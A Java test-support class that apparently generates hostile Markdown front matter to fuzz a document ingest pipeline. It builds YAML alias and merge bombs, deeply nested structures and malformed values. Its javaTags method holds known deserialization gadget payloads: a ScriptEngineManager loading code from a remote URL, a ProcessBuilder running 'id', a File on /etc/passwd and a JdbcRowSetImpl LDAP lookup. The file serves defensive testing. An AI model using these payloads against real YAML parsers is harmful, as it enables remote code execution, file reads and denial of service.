package dev.galley.ingest;

import static dev.galley.ingest.HostileSources.about;
import static dev.galley.ingest.HostileSources.each;
import static dev.galley.ingest.HostileSources.oneOf;

import dev.galley.ingest.HostileSources.Kind;
import java.util.List;
import java.util.Random;
import java.util.function.Function;

/** Markdown whose front matter is a bomb, a lie, or no YAML at all. */
final class HostileFrontMatter {
    private static final List<String> NAMES = List.of(
            "title",
            "slug",
            "summary",
            "date",
            "updated",
            "tags",
            "authors",
            "author",
            "draft",
            "canonical",
            "lang",
            "image",
            "series",
            "seo",
            "translationKey",
            "topics",
            "no-such-member",
            "\"\"",
            "? [a]");

    private static final List<String> VALUES = List.of(
            "",
            "~",
            "true",
            "0x1F",
            "1e400",
            ".nan",
            "-.inf",
            "9".repeat(400),
            "2026-02-30",
            "+1000000000-01-01T00:00:00Z",
            "0000-00-00",
            "[[[[]]]]",
            "[~, 1, {a: b}, [c]]",
            "{a: {b: {c: d}}}",
            "{slug: 'NOT A SLUG', name: 7, kind: nosuch, title: [], position: -1, url: 'javascript:x'}",
            "0199aaaa-bbbb-7ccc-8ddd-eeeeffff0000",
            "\"\\u0000\\uD800\"",
            "\"" + "x".repeat(5_000) + "\"",
            "|\n  lines\n  of text",
            ">-\n  folded",
            "!!binary R0lGODlh",
            "!!set {a, b}",
            "*nowhere",
            "&here [*here]",
            "'not closed",
            "@reserved",
            "\ttab");

    private HostileFrontMatter() {}

    static List<Kind> kinds() {
        return List.of(
                kind("a bomb of aliases", random -> bomb(9, 9)),
                kind("a bomb of aliases in the tags", random -> bomb(6, 20).replace("l5:", "tags:")),
                kind("a bomb of merged maps", HostileFrontMatter::mergeBomb),
                kind("an alias of itself", random -> "title: &a\n  - *a\ntags: &b {b: *b}"),
                kind("tags that name Java classes", HostileFrontMatter::javaTags),
                kind("front matter 5,000 levels deep", random -> "tags: " + "[".repeat(5_000)),
                kind("maps 5,000 levels deep", random -> "a: " + "{b: ".repeat(5_000)),
                kind("blocks 500 levels deep", random -> each(500, depth -> " ".repeat(depth) + "a:\n")),
                kind("10,000 tags", random -> "title: T\ntags:\n" + each(10_000, i -> "  - tag " + i + "\n")),
                kind("10,000 members", random -> each(10_000, i -> "m" + i + ": " + i + "\n")),
                kind("the same member again and again", random -> "title: a\ntitle: b\n".repeat(about(100, random))),
                kind("members with odd values", HostileFrontMatter::oddMembers),
                kind("no map", random -> oneOf(List.of("- a\n- b", "just words", "42", "~", "[]", "a: b: c"), random)),
                kind("several documents", random -> "title: a\n...\n%YAML 9.9\n--- \ntitle: b\n%TAG ! tag:x"),
                kind("a value of a million characters", random -> "title: T\nsummary: " + "word ".repeat(200_000)),
                kind("a key of 100,000 characters", random -> "k".repeat(100_000) + ": v"),
                Kind.text("text/markdown", "front matter that never ends", random -> "---\ntitle: T\n# H\n\ntext"),
                Kind.text("text/markdown", "front matter behind a BOM", random -> "\uFEFF---\ntitle: T\n---\n# H"),
                Kind.text("text/markdown", "front matter with nothing", random -> "---\n---\n---\n---\n"),
                Kind.text("text/markdown", "TOML and JSON as front matter", HostileFrontMatter::otherFormats));
    }

    private static Kind kind(String description, Function<Random, String> yaml) {
        return Kind.text("text/markdown", description, random -> "---\n" + yaml.apply(random) + "\n---\n# H\n\ntext\n");
    }

    /** "Billion laughs": each level holds the one before so many times. */
    private static String bomb(int levels, int times) {
        String first = "l0: &l0 [" + "lol,".repeat(times) + "]\n";
        return first
                + each(levels, i -> "l" + (i + 1) + ": &l" + (i + 1) + " [" + ("*l" + i + ",").repeat(times) + "]\n");
    }

    private static String mergeBomb(Random random) {
        return "a0: &a0 {x: y}\n"
                + each(
                        about(30, random),
                        i -> "a" + (i + 1) + ": &a" + (i + 1) + "\n  <<: [*a" + i + ", *a" + i + "]\n");
    }

    private static String javaTags(Random random) {
        List<String> values = List.of(
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"https://example.com/\"]]]]",
                "!!java.io.File [\"/etc/passwd\"]",
                "!!java.lang.ProcessBuilder [[\"id\"]]",
                "!<tag:yaml.org,2002:java.util.Date> 0",
                "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://localhost/x\", autoCommit: true}");
        return "title: " + oneOf(values, random) + "\ntags: [" + oneOf(values, random) + "]";
    }

    private static String oddMembers(Random random) {
        return each(about(20, random), i -> oneOf(NAMES, random) + ": " + oneOf(VALUES, random) + "\n");
    }

    private static String otherFormats(Random random) {
        return oneOf(
                List.of("+++\ntitle = \"T\"\n+++\n# H\n", "{\n\"title\": \"T\"\n}\n\n# H\n", "---json\n{}\n---\n"),
                random);
    }
}
